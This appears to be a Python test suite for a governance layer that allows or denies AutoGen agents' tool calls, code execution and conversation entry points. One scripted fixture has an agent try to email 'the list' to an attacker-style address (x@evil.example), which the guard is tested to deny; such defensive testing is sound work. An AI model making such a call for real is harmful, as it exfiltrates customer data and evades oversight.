"""Every classic entry point and multi-agent construct either governed or refused: ``run`` with
its internal executor, group patterns with their tool executor, code execution, agents nobody
registered, and an inventory that fails when a release adds an entry point nobody classified."""

from __future__ import annotations

import inspect
import threading
from pathlib import Path
from typing import Any

import pytest

from tether.autogen.classic import CODE_TOOL, register_guard
from tether.core import AuditStore, Guard

from .conftest import POLICY, Tools, assistant, contents, events, executor, say, script, tool_call

autogen = pytest.importorskip("autogen")
VERSION = tuple(int(p) for p in autogen.__version__.split(".")[:2])
needs_ag2 = pytest.mark.skipif(VERSION < (0, 9), reason="pyautogen 0.2 has no run() and no group patterns")


def finish(response: Any, within: float = 60.0) -> None:
    """Consume a ``run`` response's events (AutoGen runs the chat in a thread), bounded in time."""
    done = threading.Event()

    def consume() -> None:
        for event in response.events:
            if type(event).__name__ == "InputRequestEvent":
                event.content.respond("exit")
        done.set()

    threading.Thread(target=consume, daemon=True).start()
    assert done.wait(within), "the run did not finish"


@needs_ag2
def test_run_with_a_message_governs_the_internal_executor(guard: Guard, tools: Tools, store: AuditStore) -> None:
    """ag2's ``run(message=...)`` runs tools in an executor agent it creates in a thread of its own."""
    bot = autogen.ConversableAgent(
        "assistant", llm_config=script_llm(), human_input_mode="NEVER", functions=list(tools.functions.values())
    )
    seen = script(
        bot,
        tool_call("lookup", {"query": "order 7"}),
        tool_call("send_email", {"to": "x@evil.example", "body": "the list"}),
        tool_call("refund", {"order": "A1", "amount": 9000}),
        say("TERMINATE"),
    )
    register_guard(bot, guard)

    finish(bot.run(message="help the customer", max_turns=4, user_input=False))

    assert tools.ran == [("lookup", {"query": "order 7"})]
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("assistant", "send_email", "deny"),
        ("assistant", "refund", "deny"),
    ]
    assert len({e.session_id for e in store.events()}) == 1  # one run, one session
    assert all(d.parent_id for d in decisions)  # each linked to the model response that proposed it
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])


@needs_ag2
def test_a_group_pattern_governs_its_tool_executor(guard: Guard, tools: Tools, store: AuditStore) -> None:
    """``initiate_group_chat`` runs every tool in a ``GroupToolExecutor`` it creates."""
    from autogen.agentchat import initiate_group_chat
    from autogen.agentchat.group.patterns import RoundRobinPattern

    bot = autogen.ConversableAgent("assistant", llm_config=script_llm(), functions=[tools.functions["lookup"]])
    researcher = autogen.ConversableAgent(
        "researcher", llm_config=script_llm(), functions=[tools.functions["send_email"]]
    )
    script(bot, tool_call("lookup", {"query": "order 7"}), say("looked it up"), say("TERMINATE"))
    script(researcher, tool_call("send_email", {"to": "bob@acme.example", "body": "hi"}), say("TERMINATE"))
    pattern = RoundRobinPattern(initial_agent=bot, agents=[bot, researcher])
    register_guard(pattern, guard)

    initiate_group_chat(pattern=pattern, messages="help the customer", max_rounds=8)
    initiate_group_chat(pattern=pattern, messages="and again", max_rounds=2)

    assert tools.ran == [("lookup", {"query": "order 7"})]  # the researcher may not email
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("researcher", "send_email", "deny"),
    ]
    assert decisions[0].details["context"]["executor"] == "_Group_Tool_Executor"
    starts = [e.session_id for e in events(store, "session.start")]
    assert len(starts) == len(set(starts)) == 2  # one session per group chat
    assert decisions[0].session_id == decisions[1].session_id == starts[0]


def test_agents_nobody_registered_are_decided_under_a_fallback_session(
    guard: Guard, tools: Tools, store: AuditStore
) -> None:
    register_guard(assistant("someone-else"), guard)  # a guard exists in this process
    bot, user = assistant(), executor()
    tools.register(bot, user)
    script(bot, tool_call("lookup", {"query": "a"}), say("TERMINATE"))

    user.initiate_chat(bot, message="help", max_turns=3, silent=True)  # neither agent registered

    assert tools.ran == [("lookup", {"query": "a"})]  # the policy grants it to the assistant
    (decision,) = events(store, "tool.decision")
    assert (decision.agent, decision.verdict) == ("assistant", "allow")
    assert decision.details["context"]["attribution"] == "fallback"


def test_a_direct_call_outside_any_chat_is_decided(guard: Guard, tools: Tools, store: AuditStore) -> None:
    user = executor()
    tools.register(assistant(), user)
    register_guard(user, guard)

    ok, result = user.execute_function({"name": "send_email", "arguments": '{"to": "a@b.example", "body": "x"}'})

    assert not ok and "Tether denied the call to 'send_email'" in result["content"]
    assert tools.count("send_email") == 0
    assert [e.verdict for e in events(store, "tool.decision")] == ["deny"]


def code_runner(tmp_path: Path, **config: Any) -> Any:
    return autogen.ConversableAgent(
        "user",
        llm_config=False,
        human_input_mode="NEVER",
        code_execution_config=config or {"work_dir": str(tmp_path), "use_docker": False},
        is_termination_msg=lambda m: "TERMINATE" in str(m.get("content")),
    )


CODE = "```python\nopen('ran.txt', 'w').write('x')\nprint('DONE' + '-' + 'MARK')\n```"


@pytest.mark.parametrize("granted", [False, True])
def test_code_execution_is_decided(store: AuditStore, tmp_path: Path, granted: bool) -> None:
    policy = {**POLICY, "tools": {**POLICY["tools"], CODE_TOOL: {"effects": ["irreversible"]}}}
    policy["agents"] = {**POLICY["agents"], "user": {"purpose": "runs code", "owner": "t@acme.example", "tools": {}}}
    if granted:
        policy["agents"]["user"]["tools"] = {CODE_TOOL: {"when": "args.language == 'python'"}}
    guard = Guard(policy, store=store)
    bot, user = assistant(), code_runner(tmp_path)
    script(bot, say(CODE), say("TERMINATE"))
    register_guard([bot, user], guard)

    history = user.initiate_chat(bot, message="write the file", max_turns=2, silent=True).chat_history

    assert (tmp_path / "ran.txt").exists() is granted
    (decision,) = events(store, "tool.decision")
    assert (decision.agent, decision.tool, decision.verdict) == ("user", CODE_TOOL, "allow" if granted else "deny")
    assert decision.details["args"]["language"] == "python"
    text = "\n".join(str(m.get("content")) for m in history)
    assert ("DONE-MARK" in text) is granted
    assert ("Tether denied the call to 'execute_code'" in text) is not granted


@needs_ag2
def test_a_code_executor_is_decided(guard: Guard, store: AuditStore, tmp_path: Path) -> None:
    from autogen.coding import LocalCommandLineCodeExecutor

    bot = assistant()
    user = code_runner(tmp_path, executor=LocalCommandLineCodeExecutor(work_dir=str(tmp_path)))
    script(bot, say(CODE), say("TERMINATE"))
    register_guard([bot, user], guard)

    user.initiate_chat(bot, message="write the file", max_turns=2, silent=True)

    assert not (tmp_path / "ran.txt").exists()
    assert [(e.tool, e.verdict) for e in events(store, "tool.decision")] == [(CODE_TOOL, "deny")]


def test_the_chats_opening_message_is_trusted_input(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user = assistant(), executor()
    tools.register(bot, user)
    script(bot, say("TERMINATE"))
    register_guard([bot, user], guard)

    user.initiate_chat(bot, message="please write to carol@acme.example", max_turns=1, silent=True)

    (opening,) = events(store, "input")
    assert (opening.agent, opening.details["source"]) == ("user", "user")
    request = events(store, "model.request")[0]
    assert request.parent_id is None and "agent" in request.data  # other agents' turns are not the user's


# -- the inventory -------------------------------------------------------------------------

#: every public method of ConversableAgent that starts or drives a conversation, and how Tether
#: covers it. A release that adds one fails the test until it is classified here.
GOVERNED_BY_CHAT = {  # sessions start in initiate_chat / a_initiate_chat, which these all reach
    "initiate_chat",
    "a_initiate_chat",
    "initiate_chats",
    "a_initiate_chats",
    "sequential_run",
    "a_sequential_run",
    "run",
    "a_run",
    "run_iter",
    "a_run_iter",
}
BY_HAND = {  # no new chat: governed in the session of the agent's last chat (or the fallback)
    "generate_reply",
    "a_generate_reply",
    "send",
    "a_send",
    "receive",
    "a_receive",
    "resume",
    "a_resume",
}
WAISTS = {"execute_function", "a_execute_function", "execute_code_blocks"}
NOT_ENTRY_POINTS = {  # public methods whose names match, that start nothing
    "run_code",  # runs one block for execute_code_blocks, where code is decided
    "run_input_guardrails",  # ag2's own guardrail checks of a message
    "run_output_guardrails",
}


def test_every_entry_point_is_classified() -> None:
    names = {
        name
        for name, _ in inspect.getmembers(autogen.ConversableAgent, inspect.isfunction)
        if not name.startswith("_") and (name.startswith(("run", "a_run", "initiate", "a_initiate", "sequential")))
    }
    names |= {n for n in ("resume", "a_resume") if hasattr(autogen.GroupChatManager, n)}
    unclassified = names - GOVERNED_BY_CHAT - BY_HAND - WAISTS - NOT_ENTRY_POINTS
    assert not unclassified, f"classify these entry points in the inventory and the docs: {sorted(unclassified)}"
    for name in WAISTS:
        assert getattr(getattr(autogen.ConversableAgent, name), "__wrapped__", None) is not None or not _installed()


def test_every_group_chat_entry_point_is_classified() -> None:
    try:
        from autogen.agentchat.group import multi_agent_chat
    except ImportError:
        pytest.skip("this version has no group patterns")
    public = {
        n
        for n, f in inspect.getmembers(multi_agent_chat, inspect.isfunction)
        if f.__module__ == multi_agent_chat.__name__
    }
    entry = {n for n in public if "group_chat" in n}
    known = {  # each runs last_agent.(a_)initiate_chat(manager), where sessions start
        "initiate_group_chat",
        "a_initiate_group_chat",
        "run_group_chat",
        "a_run_group_chat",
        "run_group_chat_iter",
        "a_run_group_chat_iter",
    }
    assert entry <= known, f"classify these group chat entry points: {sorted(entry - known)}"


def _installed() -> bool:
    from tether.autogen import classic

    return classic._installed


def script_llm() -> dict[str, Any]:
    from .conftest import LLM

    return LLM
